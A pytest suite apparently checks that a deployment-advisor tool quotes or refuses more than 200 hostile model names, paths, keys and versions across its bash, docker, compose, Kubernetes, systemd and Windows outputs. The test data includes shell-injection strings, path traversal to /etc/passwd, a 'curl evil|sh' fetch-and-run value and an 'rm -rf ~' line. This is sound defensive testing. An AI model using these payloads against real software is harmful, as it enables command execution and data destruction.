"""More than 200 hostile names, paths and keys through every form: each comes out as one argument or is refused."""

import ast
import itertools
import re
from dataclasses import replace

import pytest
import yaml
from launch_plans import at_path, bash_words, cmd_words, plan, powershell_words, systemd_words
from pydantic import ValidationError

from advisor.deploy import FORMS, render
from advisor.errors import CannotAnswer
from advisor.scenario import parse_scenario
from advisor.shell import SHELLS

LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
PAYLOADS = [
    "$(touch CANARY)", "`touch CANARY`", "; touch CANARY ;", "&& touch CANARY", "|| touch CANARY", "| touch CANARY", "& touch CANARY &",
    "\ntouch CANARY\n", "\r\ntouch CANARY", "' ; touch CANARY ; '", '" ; touch CANARY ; "', "'\"'\"'$(touch CANARY)", "\\'; touch CANARY #",
    "${IFS}touch${IFS}CANARY", "$HOME", "${PATH}", "$(VLLM_API_KEY)", "%PATH%", "%COMSPEC%", "!HISTORY!", "^&calc", "> CANARY",
    "< /etc/passwd",
    "<<END", "END", "*", "?", "[a-z]", "{a,b}", "~", "~root", "#comment", " # comment", "a b", " lead", "trail ", "tab\there", "\\", "\\\\",
    "end\\", "quote'", 'quote"', "back`tick", "--host=0.0.0.0", "-v", "--", "-", "\x00", "\x1b[31mred", "\x7f", "\u202egpj.exe", "\u2028x",
    "\ufeffbom", "\ud800", "名前", "模型 路径", "naïve", "emoji 🙂", "\u2018curly\u2019", "\u201a$(x)\u201b", "a: b", "a: &b", "- x",
    "!!python/object:x", "{{ .Values.x }}", "%{x}", "%h/%i", "%n", "yes", "null", "1e3", "0x1F", "@file", "key=value", "a,b=c", "a;b",
    ":", "::", "C:\\x y\\", "os.environ/HOME",
    "\"\\u0022", "'''", '"""', "\\x41", "\\n", "$$", "$[1+1]", "$((1+1))", "<script>", "../../etc/passwd", "x" * 300, "x" * 9000,
]
WRAPS = ["/models/{}", "/models/{}.gguf", "/srv/my models/{}/x.gguf"]
NAMES = [wrap.format(payload) for payload, wrap in itertools.product(PAYLOADS, WRAPS)]
PROGRAMS = ["llama-server", "vllm", "docker", "ollama", "lms", "curl", "hf", "kubectl", "sudo", "journalctl", "pkill", "cat", "uv"]


def paths(base):
    """(name, plan) for every name; engines that read GGUF get a file."""
    ending = ".gguf" if base.case.quantization.kind == "gguf_mix" else ""
    names = [name if name.endswith(ending) else f"{name}-2{ending}" for name in NAMES]
    return [(name, at_path(base, name)) for name in names]


@pytest.fixture(scope="module")
def server():
    return plan(engine="llama.cpp", quantization="q4_k_m", settings={"context": 4096})


@pytest.fixture(scope="module")
def folder():
    return plan(engine="vllm", quantization="awq", settings={"context": 4096})


def rendered(made, form, shell="bash"):
    try:
        return render(made, form, shell)
    except CannotAnswer as error:
        assert error.why.endswith(".")
        return []


def test_there_are_enough_of_them():
    assert len(set(NAMES)) >= 200


@pytest.mark.parametrize("engine", ["llama.cpp", "vllm"])
def test_bash(engine, server, folder, tmp_path):
    base = {"llama.cpp": server, "vllm": folder}[engine]
    texts, wanted = [], []
    for name, made in paths(base):
        for command in rendered(made, "shell"):
            if command.kind == "launch":
                texts.append(command.text)
                wanted.append(list(made.case.engine.launch(made).words))
                assert name in wanted[-1]
    assert bash_words(texts, PROGRAMS, tmp_path) == wanted
    assert not list(tmp_path.iterdir())
    assert len(texts) > 150


def test_bash_docker(server, tmp_path):
    texts, wanted = [], []
    for name, made in paths(server):
        for command in rendered(made, "docker"):
            if command.kind == "launch":
                texts.append(command.text)
                wanted.append(f"type=bind,source={name}")
    groups = bash_words(texts, PROGRAMS, tmp_path)
    for words, mount in zip(groups, wanted, strict=True):
        assert words[:2] == ["docker", "run"]
        found = words[words.index("--mount") + 1]
        assert found.split(",target=")[0] == mount
    assert not list(tmp_path.iterdir())
    assert len(texts) > 120


def test_every_other_step_in_bash_runs_nothing_hidden(server, folder, tmp_path):
    texts = [c.text for base in (server, folder) for _, made in paths(base)[::3] for c in rendered(made, "shell")
             if c.shell == "bash" and c.kind in ("call", "check", "stop", "fetch")]
    groups = bash_words(texts, PROGRAMS, tmp_path)
    assert all(group and group[0] in PROGRAMS for group in groups)
    assert not list(tmp_path.iterdir())


def test_a_folder_that_is_turned_into_a_gguf(server, tmp_path):
    texts = [(name, c.text) for name in NAMES if not name.endswith(".gguf") for c in rendered(at_path(server, name), "shell")
             if c.kind == "fetch"]
    groups = bash_words([text for _, text in texts], [*PROGRAMS, "python3", "llama-quantize"], tmp_path)
    for (name, _), words in zip(texts, groups, strict=True):
        assert words[0] != "python3" or words[2] == name
    assert len(texts) > 100
    assert not list(tmp_path.iterdir())


def test_ollamas_modelfile(tmp_path):
    base = plan(engine="ollama", quantization="q4_k_m", settings={"context": 4096})
    for name, made in paths(base):
        for command in rendered(made, "shell"):
            if command.filename == "Modelfile":
                assert command.text == f"cat > Modelfile <<'END'\nFROM {name}\nEND"
        assert all("CANARY" not in c.text for c in rendered(made, "shell") if c.filename is None)


@pytest.mark.parametrize("shell", ["powershell", "cmd"])
def test_powershell_and_cmd(shell, server):
    split = {"powershell": powershell_words, "cmd": cmd_words}[shell]
    carried = 0
    for name, made in paths(replace(server, os="windows")):
        for command in rendered(made, "shell", shell):
            if command.kind == "launch":
                assert split(command.text) == list(made.case.engine.launch(made).words)
                assert name in split(command.text)
                carried += 1
    assert carried > 100


def test_compose(server):
    for name, made in paths(server):
        for command in rendered(made, "compose"):
            if command.filename == "compose.yaml":
                service = yaml.load(command.text, LOADER)["services"]["llm"]
                bind = next(v for v in service["volumes"] if v["type"] == "bind")
                assert bind["source"].replace("$$", "$") == name
                assert set(service) == {"image", "restart", "ipc", "command", "ports", "volumes", "deploy"}
                assert not re.search(r"(?<!\$)(?:\$\$)*\$(?!\$)", bind["source"] + "".join(service["command"]))


@pytest.mark.parametrize("engine", ["llama.cpp", "vllm"])
def test_kubernetes(engine, server, folder):
    for name, made in paths({"llama.cpp": server, "vllm": folder}[engine]):
        for command in rendered(made, "kubernetes"):
            if command.filename == "llm.yaml":
                documents = {d["kind"]: d for d in yaml.load_all(command.text, LOADER)}
                assert set(documents) == {"Secret", "PersistentVolumeClaim", "Deployment", "Service"}
                pod = documents["Deployment"]["spec"]["template"]["spec"]
                assert next(v for v in pod["volumes"] if v["name"] == "model")["hostPath"]["path"] == name
                target = pod["containers"][0]["args"][pod["containers"][0]["args"].index("-m") + 1 if engine == "llama.cpp" else 0]
                assert target.startswith("/models/")
                assert not re.search(r"(?<!\$)(?:\$\$)*\$\(", target)


def test_systemd(server):
    seen = 0
    for name, made in paths(server):
        for command in rendered(made, "systemd"):
            if command.filename == "llm.service":
                line = next(x for x in command.text.splitlines() if x.startswith("ExecStart="))
                words = systemd_words(line.removeprefix("ExecStart="))
                assert words == ["/usr/local/bin/llama-server", *made.case.engine.launch(made).words[1:]]
                assert name in words
                assert sum(x.startswith("ExecStart") for x in command.text.splitlines()) == 1
                seen += 1
    assert seen > 150


def test_python_client(server):
    for _, made in paths(server):
        for command in rendered(made, "python"):
            if command.filename:
                names = {n.id for n in ast.walk(ast.parse(command.text)) if isinstance(n, ast.Name)}
                assert "touch" not in names


@pytest.mark.parametrize("form", [f for f in FORMS if f not in ("shell", "python")])
def test_hostile_ids_never_reach_a_file(form, server, folder, tmp_path):
    for base in (server, folder):
        for payload in PAYLOADS:
            model = base.case.model.model_copy(update={"id": payload, "name": payload, "repository": None, "aliases": (),
                                                       "gguf_repository": payload})
            made = replace(base, case=replace(base.case, model=model, model_reference=payload, model_path="/models/good.gguf"))
            for command in rendered(made, form):
                assert "touch CANARY" not in command.text
                assert "\x1b" not in command.text
                assert form != "litellm" or "os.environ/HOME" not in command.text


@pytest.mark.parametrize("shell", SHELLS)
def test_hostile_references_without_a_path(shell, server, folder):
    for base in (server, folder):
        for payload in PAYLOADS:
            model = base.case.model.model_copy(update={"id": payload, "name": payload, "repository": payload, "aliases": (payload,),
                                                       "gguf_repository": payload, "ollama_tag": payload})
            made = replace(base, case=replace(base.case, model=model, model_reference=payload))
            for command in rendered(made, "shell", shell):
                assert "touch CANARY" not in command.text
                assert command.text.isprintable() or "\n" in command.text


@pytest.mark.parametrize("form", FORMS)
def test_hostile_keys_and_mirrors_are_refused(form, folder):
    for payload in PAYLOADS:
        if re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._~-]{15,255}", payload):
            continue
        with pytest.raises(CannotAnswer):
            render(replace(folder, serve=True, api_key=payload), form)
        if form in ("shell", "docker", "compose", "kubernetes") and not re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9./-]*", payload):
            with pytest.raises(CannotAnswer):
                render(replace(folder, source="mirror", mirror="https://" + payload), form)


VERSIONS = ["0.33.0;curl evil|sh", "$(touch CANARY)", "`touch CANARY`", "0.33.0 && touch CANARY", "main", "git ebaf86d", "0.11.2 -> 0.11.3",
            "0.33.0' ; touch CANARY ; '", '0.33.0" & calc', "99.99", "0.33.0rc1", "b11434"]


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize("engine, quantization", [("vllm", "awq"), ("sglang", "awq"), ("tensorrt-llm", "fp8"), ("llama.cpp", "q4_k_m"),
                                                  ("ollama", "q4_k_m"), ("mlx-lm", "mlx-4bit")])
@pytest.mark.parametrize("form", ["shell", "docker", "compose", "systemd", "kubernetes"])
def test_a_version_that_is_none_reaches_no_command(engine, quantization, form, version):
    """Scenarios are passed on as files and links: whatever their version says, only a release's name is pasted."""
    device, os = ("M4 Max", "macos") if engine == "mlx-lm" else ("RTX 4090", "linux")
    made = plan(engine=engine, quantization=quantization, settings={"context": 4096}, device=device, version=version, os=os)
    found = "\n".join(f"{command.title}\n{command.text}" for command in rendered(made, form))
    plain = re.fullmatch(r"b?[0-9.]+(rc1)?", version)
    assert plain or version not in found
    assert found or form != "shell"
    assert "CANARY" not in found and "evil" not in found and "calc" not in found


@pytest.mark.parametrize("version", ["0.33.0\nrm -rf ~", "0.33.0\r", "\x1b[31m", "0\u2028x"])
def test_a_version_of_several_lines_is_refused(version):
    with pytest.raises(CannotAnswer, match=r"engine_version.*one line"):
        parse_scenario({"engine": "vllm", "engine_version": version})
    with pytest.raises(ValidationError):
        parse_scenario({}).with_(engine_version=version)


def test_flags_are_said_to_be_checked_for_the_release_that_they_were_checked_for():
    new = plan(engine="vllm", quantization="awq", settings={"context": 4096}, version="99.1")
    said = " ".join(command.verifies for command in render(new, "shell", "bash"))
    assert f"checked for vLLM {new.case.engine.data['version']}; 99.1 is newer" in said
